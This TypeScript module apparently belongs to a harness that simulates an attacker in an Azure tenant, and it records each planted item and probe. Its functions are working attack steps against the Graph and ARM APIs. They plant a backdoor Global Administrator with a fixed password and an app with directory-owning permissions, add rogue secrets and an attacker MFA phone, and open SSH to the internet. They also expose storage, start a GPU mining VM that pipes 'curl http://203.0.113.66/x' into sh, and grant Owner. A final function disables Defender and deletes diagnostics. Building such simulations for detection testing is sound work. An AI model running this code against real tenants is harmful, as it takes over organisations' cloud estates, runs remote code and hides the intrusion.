import { randomUUID } from 'node:crypto';
import { builtIn } from '../arm/access';
import { roleTemplates } from '../graph/roles-data';
import { GRAPH_APP_ID } from '../login/granted';
import type { Azure } from '../start';
import type { Agent } from './agent';
import { patiently } from './tools';
import type { AzureLive, AzurePlanted } from './types';

const suffix = (): string => randomUUID().slice(0, 6);
const readPeople = { on: 'graph', method: 'GET', path: '/users' } as const;

/** A person who was not there, with the highest role. */
export async function plantUser(azure: Azure, as: Agent, planted: AzurePlanted): Promise<AzureLive> {
  const upn = `svc-backup-${suffix()}@${azure.world.domain}`;
  const password = `Pl4nted-${suffix()}!`;
  const { id } = await as.graph<{ id: string }>('POST', '/users', { displayName: 'Backup service', mailNickname: 'svc-backup', userPrincipalName: upn, accountEnabled: true, passwordProfile: { password, forceChangePasswordNextSignIn: false } });
  planted.users.push({ id, upn });
  await patiently('the role of the new user', () => as.graph('POST', '/roleManagement/directory/roleAssignments', { principalId: id, roleDefinitionId: roleTemplates['Global Administrator'], directoryScopeId: '/' }));
  return { what: `the planted user ${upn}`, credential: { kind: 'password', upn, password, mfa: true }, probe: readPeople };
}

/** An application of the attacker’s with a secret and a permission that owns the directory. */
export async function plantApplication(azure: Azure, as: Agent, planted: AzurePlanted): Promise<AzureLive> {
  const name = `Azure Sync ${suffix()}`;
  const application = await as.graph<{ id: string; appId: string }>('POST', '/applications', { displayName: name });
  const principal = await patiently('the service principal', () => as.graph<{ id: string }>('POST', '/servicePrincipals', { appId: application.appId }));
  const { secretText } = await patiently('the secret', () => as.graph<{ secretText: string }>('POST', `/applications/${application.id}/addPassword`, { passwordCredential: { displayName: 'sync' } }));
  planted.applications.push({ id: application.id, appId: application.appId, servicePrincipalId: principal.id, name });
  await grant(as, principal.id, 'RoleManagement.ReadWrite.Directory');
  return { what: `the planted application ${name}`, credential: { kind: 'secret', appId: application.appId, secret: secretText }, probe: { on: 'graph', method: 'GET', path: '/roleManagement/directory/roleAssignments' } };
}

export async function grant(as: Agent, principalId: string, permission: string): Promise<void> {
  const graph = await as.graph<{ id: string; appRoles: { id: string; value: string }[] }>('GET', `/servicePrincipals(appId='${GRAPH_APP_ID}')`);
  const role = graph.appRoles.find((one) => one.value === permission)!;
  await patiently(permission, () => as.graph('POST', `/servicePrincipals/${principalId}/appRoleAssignments`, { principalId, resourceId: graph.id, appRoleId: role.id }));
}

/** Another secret of an application that is in use. */
export async function plantSecret(as: Agent, application: { applicationId: string; appId: string; name: string }, planted: AzurePlanted): Promise<AzureLive> {
  const { secretText, keyId } = await as.graph<{ secretText: string; keyId: string }>('POST', `/applications/${application.applicationId}/addPassword`, { passwordCredential: { displayName: 'rotation' } });
  planted.secrets.push({ applicationId: application.applicationId, keyId });
  return { what: `a second secret of ${application.name}`, credential: { kind: 'secret', appId: application.appId, secret: secretText }, probe: readPeople };
}

/** Sign-in for whoever holds the attacker’s phone. */
export async function plantMethod(as: Agent, user: string, planted: AzurePlanted): Promise<void> {
  const { id } = await as.graph<{ id: string }>('POST', `/users/${user}/authentication/phoneMethods`, { phoneNumber: '+49 1512345678', phoneType: 'mobile' });
  planted.methods.push({ user, id });
}

export async function openNetwork(as: Agent, nsg: string, planted: AzurePlanted): Promise<void> {
  const name = `Allow-${suffix()}`;
  await as.arm('PUT', `${nsg}/securityRules/${name}`, { properties: { priority: 110, direction: 'Inbound', access: 'Allow', protocol: 'Tcp', sourceAddressPrefix: '*', sourcePortRange: '*', destinationAddressPrefix: '*', destinationPortRange: '22' } });
  planted.rules.push(name);
}

export async function publish(as: Agent, container: string, planted: AzurePlanted): Promise<void> {
  const account = container.split('/blobServices/')[0]!;
  await as.arm('PATCH', account, { properties: { allowBlobPublicAccess: true } });
  await patiently('public access', () => as.arm('PATCH', container, { properties: { publicAccess: 'Container' } }));
  await as.arm('POST', `${account}/listKeys`);
  planted.containers.push(container);
}

/** A machine for mining. */
export async function mine(azure: Azure, as: Agent, planted: AzurePlanted): Promise<void> {
  const name = `gpu-${suffix()}`;
  const { production, web } = azure.world.estate;
  const id = `/subscriptions/${production}/resourceGroups/${web}/providers/Microsoft.Compute/virtualMachines/${name}`;
  await as.arm('PUT', id, { location: 'southeastasia', properties: { hardwareProfile: { vmSize: 'Standard_NC96ads_A100_v4' }, storageProfile: { osDisk: { name, createOption: 'FromImage' }, dataDisks: [] }, osProfile: { computerName: name, adminUsername: 'x' }, networkProfile: { networkInterfaces: [] } } });
  planted.machines.push(id);
  await as.arm('POST', `${azure.world.estate.vm}/runCommand`, { commandId: 'RunShellScript', script: ['curl -s http://203.0.113.66/x | sh'] });
}

export const makeOwner = (as: Agent, subscription: string, principalId: string, principalType: string): Promise<unknown> =>
  as.arm('PUT', `/subscriptions/${subscription}/providers/Microsoft.Authorization/roleAssignments/${randomUUID()}`, { properties: { principalId, principalType, roleDefinitionId: `/subscriptions/${subscription}/providers/Microsoft.Authorization/roleDefinitions/${builtIn['Owner']!.id}` } });

/** The last act: nobody is told of what comes after. */
export async function goDark(azure: Azure, as: Agent): Promise<void> {
  const { estate } = azure.world;
  await as.arm('PUT', `/subscriptions/${estate.production}/providers/Microsoft.Security/pricings/VirtualMachines`, { properties: { pricingTier: 'Free' } });
  await as.arm('DELETE', estate.diagnostics);
}
